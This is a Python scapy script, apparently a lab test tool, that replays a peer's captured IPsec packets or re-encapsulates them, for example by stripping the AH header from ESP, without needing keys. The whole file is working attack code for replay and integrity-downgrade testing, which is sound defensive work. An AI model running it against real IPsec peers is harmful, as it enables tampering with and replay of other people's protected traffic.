#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
r"""Resend a peer's captured IPsec packets, as captured or in another encapsulation.

    reencap.py --pcap FILE --iface wan0 --src 198.51.100.1 --how strip-ah

Takes every packet from SRC in FILE that is AH, raw ESP or ESP in UDP 4500, and sends:
  intact     the IP datagram byte for byte (a replay)
  strip-ah   AH removed: IP protocol 50 and the ESP that was inside the AH, Total Length and
             checksum fixed (the attacker needs no key: AH covers ESP, not the other way)
  udp-to-raw the ESP of an ESP-in-UDP datagram (RFC 3948) as raw ESP, protocol 50
  raw-to-udp raw ESP wrapped in UDP 4500 -> 4500, checksum 0
Packets that do not fit the chosen way are skipped.  Prints how many were sent.  Run with
Debian's /usr/bin/python3 inside the attacker namespace.
"""

import argparse
import sys

from scapy.config import conf
from scapy.layers.inet import IP, UDP
from scapy.packet import Raw
from scapy.sendrecv import send
from scapy.utils import rdpcap

conf.verb = 0


def header(raw, proto):
    """The IPv4 header of raw with another protocol; length and checksum left to scapy."""
    ihl = (raw[0] & 0x0F) * 4
    ip = IP(raw[:ihl])
    ip.proto = proto
    ip.len = None
    ip.chksum = None
    return ip, ihl


def convert(raw, how):
    proto = raw[9]
    if how == "intact":
        return IP(raw)
    if how == "strip-ah" and proto == 51:
        ip, ihl = header(raw, 50)
        if raw[ihl] != 50:
            return None          # the AH did not carry ESP
        ah_len = (raw[ihl + 1] + 2) * 4
        return ip / Raw(raw[ihl + ah_len:])
    if how == "udp-to-raw" and proto == 17:
        ip, ihl = header(raw, 50)
        esp = raw[ihl + 8:]
        if len(esp) < 8 or esp[:4] == b"\0\0\0\0":
            return None          # IKE or a keepalive, not ESP
        return ip / Raw(esp)
    if how == "raw-to-udp" and proto == 50:
        ip, ihl = header(raw, 17)
        return ip / UDP(sport=4500, dport=4500, chksum=0) / Raw(raw[ihl:])
    return None


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--pcap", required=True)
    ap.add_argument("--iface", required=True)
    ap.add_argument("--src", required=True)
    ap.add_argument("--how", required=True,
                    choices=("intact", "strip-ah", "udp-to-raw", "raw-to-udp"))
    a = ap.parse_args()

    out = []
    for p in rdpcap(a.pcap):
        if IP not in p or p[IP].src != a.src or p[IP].proto not in (17, 50, 51):
            continue
        q = convert(bytes(p[IP]), a.how)
        if q is not None:
            out.append(q)
    if not out:
        print("nothing to send from %s in %s" % (a.src, a.pcap), file=sys.stderr)
        return 1
    send(out, iface=a.iface, inter=0.02)
    print("sent %d (%s)" % (len(out), a.how))
    return 0


if __name__ == "__main__":
    sys.exit(main())
